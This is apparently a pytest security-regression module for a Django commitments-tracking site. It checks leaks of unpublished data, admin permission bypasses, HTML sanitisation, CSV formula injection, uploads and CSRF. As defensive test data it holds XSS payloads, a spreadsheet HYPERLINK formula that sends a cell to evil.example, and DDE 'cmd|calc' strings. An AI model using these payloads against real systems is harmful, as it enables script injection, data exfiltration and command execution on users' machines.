"""A security review's attacks, kept as tests: each tries to break a rule of DESIGN.md
with real requests and must keep failing to."""

import csv
import datetime
import io
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.test import Client

from commitments import services
from commitments.models import Commitment, ProgressUpdate
from forums.models import Clause
from tests import builders

pytestmark = pytest.mark.django_db

SECRET = "Zqxsecret"


@pytest.fixture
def leaky(barcelona, quito, quito_staff):
    """Every way a not-yet-public word could sit in the database: a draft's title and
    description, an update on a draft, a pending change of a published commitment."""
    forum = builders.forum(quito, edition=2, year=2015)
    document = builders.outcome("quito-agenda", forum=forum, title="Quito Agenda")
    clause = Clause.objects.create(document=document, number="1", text="Protect rights.")
    theme = builders.theme("housing")
    for state in builders.NOT_PUBLIC_STATES:
        hidden = builders.commitment(
            quito,
            state=state,
            title=f"{SECRET} {state} title",
            description=f"{SECRET} description",
            outcome_document=document,
            status=Commitment.Status.STALLED,
        )
        hidden.clauses.set([clause])
        hidden.themes.set([theme])
        ProgressUpdate.objects.create(
            commitment=hidden, date=datetime.date(2020, 1, 1), text=f"{SECRET} update",
            percent=10,
        )  # fmt: skip
    # Published after a draft period with other values: the draft-era values stay private.
    shown = builders.commitment(
        quito, state=Commitment.PublicationState.DRAFT, title=f"{SECRET} draft era",
        description=f"{SECRET} draft era", outcome_document=document,
    )  # fmt: skip
    shown.title = "Public plan"
    shown.description = "Public text"
    shown.publication_state = Commitment.PublicationState.PUBLISHED
    shown.save()
    shown.clauses.set([clause])
    shown.themes.set([theme])
    services.propose_changes(
        shown, quito_staff, {"title": f"{SECRET} pending", "description": f"{SECRET} pending"}
    )
    shown.refresh_from_db()
    services.add_progress_update(
        shown, quito_staff, date=datetime.date(2021, 1, 1), text="Public update", percent=20
    )
    return shown


PUBLIC_PATHS = [
    "/", "/search/?q=title", "/search/?q=description", "/search/?q=pending", "/search/?q=draft",
    "/commitments/", "/commitments/?format=csv", "/commitments/?format=json",
    "/commitments/?q=title", "/commitments/?status=stalled",
    "/cities/", "/cities/?format=csv", "/cities/?format=json", "/cities/quito/",
    "/cities/quito/feed/", "/feeds/updates/",
    "/forums/", "/forums/forum-2/", "/forums/?format=json",
    "/outcomes/", "/outcomes/quito-agenda/", "/outcomes/?format=csv", "/outcomes/?format=json",
    "/relocations/", "/relocations/?format=csv",
    "/api/", "/api/commitments/", "/api/cities/", "/api/cities/quito/", "/api/outcomes/",
    "/api/outcomes/quito-agenda/", "/api/themes/", "/api/themes/housing/", "/api/forums/",
    "/api/forums/forum-2/", "/api/frameworks/", "/api/commitments/?q=pending",
    "/api/relocations/",
]  # fmt: skip


def test_no_unpublished_word_on_any_public_path(leaky):
    # One set of records, every path: a fixture per path would make this module slow.
    for prefix in ["", "/es", "/fr"]:
        for path in PUBLIC_PATHS:
            if prefix and path.startswith(("/api/", "/feeds/")):
                continue  # not translated
            response = Client().get(prefix + path, follow=True)
            assert response.status_code == 200, (prefix + path, response.status_code)
            streamed = response.streaming
            body = b"".join(response.streaming_content) if streamed else response.content
            assert SECRET.lower().encode() not in body.lower(), prefix + path


@pytest.mark.parametrize("prefix", ["", "/es", "/fr"])
def test_published_commitment_page_shows_no_draft_or_pending_value(leaky, prefix):
    for path in [f"/commitments/{leaky.pk}/", f"/api/commitments/{leaky.pk}/"]:
        if prefix and path.startswith("/api/"):
            continue
        response = Client().get(prefix + path, follow=True)
        assert response.status_code == 200
        body = response.content.decode()
        assert "Public plan" in body
        assert SECRET.lower() not in body.lower(), prefix + path
        assert "quito-staff" not in body


def test_unpublished_pages_are_not_found(leaky):
    for hidden in Commitment.objects.exclude(pk=leaky.pk):
        for path in [f"/commitments/{hidden.pk}/", f"/api/commitments/{hidden.pk}/",
                     f"/es/commitments/{hidden.pk}/"]:  # fmt: skip
            assert Client().get(path, follow=True).status_code == 404, path


# Staff with admin access ------------------------------------------------------------


@pytest.fixture
def staff_admin(client, barcelona_staff):
    from tests.curation import ensure_groups

    ensure_groups()
    barcelona_staff.is_staff = True
    barcelona_staff.save()
    client.force_login(barcelona_staff)
    return client


def test_staff_cannot_publish_their_own_draft_from_the_admin(staff_admin, barcelona):
    from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME

    from tests.curation import admin_url

    for state in builders.NOT_PUBLIC_STATES:
        draft = builders.commitment(barcelona, state=state, published_at=None)
        staff_admin.post(
            admin_url(Commitment, "changelist"),
            {"action": "publish_selected", ACTION_CHECKBOX_NAME: [str(draft.pk)]},
        )
        draft.refresh_from_db()
        assert draft.publication_state == state


def test_staff_admin_edit_of_a_published_title_waits_for_review(staff_admin, barcelona):
    from tests.curation import admin_url, form_data

    shown = builders.commitment(barcelona, title="Approved title")
    url = admin_url(Commitment, "change", shown.pk)
    data = form_data(staff_admin.get(url))
    data["title"] = "Unreviewed title"
    staff_admin.post(url, data)
    shown.refresh_from_db()
    assert shown.title == "Approved title"
    assert "Unreviewed title" not in Client().get(f"/commitments/{shown.pk}/").content.decode()


def test_staff_cannot_verify_their_own_update_from_the_admin(staff_admin, barcelona):
    from tests.curation import admin_url, form_data

    shown = builders.commitment(barcelona, title="Approved title")
    update = ProgressUpdate.objects.create(
        commitment=shown, date=datetime.date(2020, 1, 1), text="Self", percent=10
    )
    url = admin_url(Commitment, "change", shown.pk)
    data = form_data(staff_admin.get(url))
    for key in list(data):
        if key.endswith("-id") and data[key] == str(update.pk):
            data[key.replace("-id", "-verified")] = "on"
    staff_admin.post(url, data)
    update.refresh_from_db()
    assert not update.verified
    url = admin_url(ProgressUpdate, "change", update.pk)
    data = form_data(staff_admin.get(url))
    data["verified"] = "on"
    staff_admin.post(url, data)
    update.refresh_from_db()
    assert not update.verified


def test_staff_cannot_change_the_other_citys_or_a_confirmed_transfer_in_the_admin(
    staff_admin, barcelona, athens
):
    from commitments.models import Transfer
    from tests.curation import admin_url, form_data

    agreement = builders.agreement(athens, barcelona, pledged=100)
    theirs = builders.transfer(agreement, 10, reported_by_city=athens)
    confirmed = builders.transfer(agreement, 10, reported_by_city=barcelona, confirmed=True)
    for transfer in (theirs, confirmed):
        url = admin_url(Transfer, "change", transfer.pk)
        data = form_data(staff_admin.get(url))
        data["people"] = "50"
        staff_admin.post(url, data)
        staff_admin.post(admin_url(Transfer, "delete", transfer.pk), {"post": "yes"})
        transfer.refresh_from_db()
        assert transfer.people == 10


# User text ------------------------------------------------------------------------

EVIL = (
    "<script>alert(1)</script> [click](javascript:alert(2)) "
    '<img src=x onerror="alert(3)"> <a href="JaVaScRiPt:alert(4)">x</a> '
    "[data](data:text/html;base64,PHNjcmlwdD4=) <svg onload=alert(5)>"
)
EVIL_NAME = '<svg onload=alert(9)>"Evil&City'


class _Dangerous(HTMLParser):
    """Collects the tags and attributes a browser would run: inline scripts, event
    handlers, and javascript:/data: links."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed") and not dict(attrs).get("src"):
            self.found.append(tag)
        if tag == "script" and dict(attrs).get("src", "").startswith(("http", "//")):
            self.found.append(f"external script {dict(attrs)['src']}")
        for name, value in attrs:
            compact = "".join((value or "").split()).lower()
            if name.startswith("on") or compact.startswith(
                ("javascript:", "data:text", "vbscript:")
            ):
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def _assert_clean(body, where, feed=False):
    texts = [body]
    if feed:
        # Atom text constructs are plain text unless they say type="html".
        elements = ElementTree.fromstring(body).iter()  # noqa: S314 (our own feed)
        texts = [e.text or "" for e in elements if e.get("type") in ("html", "xhtml")]
        assert texts, where
    for text in texts:
        parser = _Dangerous()
        parser.feed(text)
        assert not parser.found, (where, parser.found)


def test_markup_in_user_text_is_sanitized_everywhere(barcelona, quito_staff, quito):
    quito.profile = EVIL
    quito.name = EVIL_NAME
    quito.save()
    forum = builders.forum(quito, edition=3, year=2016, summary=EVIL)
    builders.outcome("evil", forum=forum, full_text=EVIL, summary=EVIL, title=EVIL_NAME)
    shown = builders.commitment(quito, title=EVIL_NAME, description=EVIL)
    services.add_progress_update(
        shown, quito_staff, date=datetime.date(2021, 1, 1), text=EVIL, percent=20,
    )  # fmt: skip
    agreement = builders.agreement(quito, barcelona, notes=EVIL)
    for path in [
        "/", "/cities/", f"/cities/{quito.slug}/", "/outcomes/", "/outcomes/evil/",
        "/forums/", "/forums/forum-3/", f"/commitments/{shown.pk}/", "/commitments/",
        f"/relocations/{agreement.pk}/", "/relocations/", "/search/?q=evil",
        "/feeds/updates/", f"/cities/{quito.slug}/feed/",
    ]:  # fmt: skip
        response = Client().get(path)
        assert response.status_code == 200, path
        _assert_clean(response.content.decode(), path, feed="/feed" in path)


# Spreadsheet formulas --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_public_csv_cells_never_start_a_formula(barcelona):
    shown = builders.commitment(barcelona, title=FORMULA, description="+cmd|' /C calc'!A0")
    shown.themes.set([builders.theme("-1")])
    body = b"".join(Client().get("/commitments/?format=csv").streaming_content).decode()
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            assert not (cell.startswith("-") and cell != "-1"), cell


def test_admin_csv_export_cells_never_start_a_formula(barcelona):
    from import_export.formats.base_formats import CSV

    from commitments.resources import CommitmentResource

    builders.commitment(barcelona, title=FORMULA, description="@SUM(1+1)*cmd|' /C calc'!A0")
    dataset = CommitmentResource().export()
    body = CSV().export_data(dataset)
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


SEPARATED = ["Safe;=1+1", "a, -2+3", "x|@SUM(1)", "ok\t=1", 'q;"=1"', "w; +1"]


def _cells_a_spreadsheet_may_split(cell):
    """The cells a spreadsheet makes of this one when it splits on ; , | or a tab."""
    return [part.lstrip(' "') for part in re.split(r"[;,|\t]", cell)]


def _assert_no_formula_after_any_separator(body):
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            for part in _cells_a_spreadsheet_may_split(cell):
                assert not part.startswith(("=", "+", "-", "@")), (cell, part)


def test_public_csv_cells_hold_no_formula_after_a_separator(barcelona):
    for text in SEPARATED:
        builders.commitment(barcelona, title=text, description=text)

    body = b"".join(Client().get("/commitments/?format=csv").streaming_content).decode()

    assert "Safe;'=1+1" in body
    _assert_no_formula_after_any_separator(body)


def test_admin_csv_export_cells_hold_no_formula_after_a_separator(barcelona):
    from import_export.formats.base_formats import CSV

    from commitments.resources import CommitmentResource

    for text in SEPARATED:
        builders.commitment(barcelona, title=text, description=text)

    _assert_no_formula_after_any_separator(CSV().export_data(CommitmentResource().export()))


# Uploads ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<html><script>alert(1)</script></html>", "This file is not a PDF."),
        (b"%PDF-1.4 " + b"x" * 2048, "The file is too large"),
    ],
)
def test_outcome_pdf_upload_refuses_what_is_not_a_small_pdf(
    client, curator, settings, tmp_path, content, message
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from forums.models import OutcomeDocument
    from tests.curation import admin_url, ensure_groups, field_errors, form_data

    settings.MAX_UPLOAD_BYTES = 1024
    settings.MEDIA_ROOT = tmp_path
    ensure_groups()
    client.force_login(curator)
    data = form_data(client.get(admin_url(OutcomeDocument, "add")))
    data.update(title="Agenda", slug="agenda", kind="agenda", language="en")
    data["pdf"] = SimpleUploadedFile("agenda.pdf", content, content_type="application/pdf")
    response = client.post(admin_url(OutcomeDocument, "add"), data)
    assert response.status_code == 200
    assert any(message in error for error in field_errors(response, "pdf"))
    assert not OutcomeDocument.objects.filter(slug="agenda").exists()
    assert not list(tmp_path.rglob("*.pdf"))


# CSRF and logout -------------------------------------------------------------------


def test_every_post_form_needs_the_csrf_token(barcelona_staff, barcelona, athens, curator):
    shown = builders.commitment(barcelona, title="Approved title")
    draft = builders.commitment(barcelona, state=Commitment.PublicationState.SUBMITTED)
    update = ProgressUpdate.objects.create(
        commitment=shown, date=datetime.date(2020, 1, 1), text="Self", percent=10
    )
    agreement = builders.agreement(athens, barcelona)
    transfer = builders.transfer(agreement, 5, reported_by_city=athens)
    posts = {
        barcelona_staff: [
            "/portal/commitments/new/", f"/portal/commitments/{draft.pk}/edit/",
            f"/portal/commitments/{draft.pk}/submit/",
            f"/portal/commitments/{shown.pk}/updates/new/",
            f"/portal/relocations/{agreement.pk}/transfers/new/",
            f"/portal/transfers/{transfer.pk}/confirm/", "/accounts/logout/",
            "/accounts/password_change/", "/i18n/setlang/",
        ],
        curator: [
            f"/portal/commitments/{draft.pk}/publish/", f"/portal/commitments/{draft.pk}/return/",
            f"/portal/commitments/{shown.pk}/changes/accept/",
            f"/portal/commitments/{shown.pk}/changes/reject/",
            f"/portal/updates/{update.pk}/verify/",
        ],
        None: ["/accounts/login/", "/accounts/password_reset/"],
    }  # fmt: skip
    for user, paths in posts.items():
        client = Client(enforce_csrf_checks=True)
        if user:
            client.force_login(user)
        for path in paths:
            assert client.post(path, {"title": "x"}).status_code == 403, path
    draft.refresh_from_db()
    update.refresh_from_db()
    transfer.refresh_from_db()
    assert draft.publication_state == Commitment.PublicationState.SUBMITTED
    assert not update.verified and transfer.confirmed_at is None


def test_logout_is_post_only(client, barcelona_staff):
    client.force_login(barcelona_staff)
    assert client.get("/accounts/logout/").status_code == 405
    assert client.get("/portal/").status_code == 200


def test_staff_see_no_history_of_another_citys_draft_in_the_admin(staff_admin, quito):
    from tests.curation import admin_url

    draft = builders.commitment(
        quito, state=Commitment.PublicationState.DRAFT, title=f"{SECRET} history"
    )
    version = draft.history.latest().history_id
    for url in [
        admin_url(Commitment, "history", draft.pk),
        admin_url(Commitment, "simple_history", draft.pk, version),
        admin_url(Commitment, "change", draft.pk),
        admin_url(Commitment, "delete", draft.pk),
        f"/admin/autocomplete/?app_label=commitments&model_name=progressupdate"
        f"&field_name=commitment&term={SECRET}",
    ]:
        response = staff_admin.get(url, follow=True)
        assert SECRET not in response.content.decode(), url
    response = staff_admin.post(admin_url(Commitment, "simple_history", draft.pk, version), {})
    assert response.status_code in (302, 403, 404)
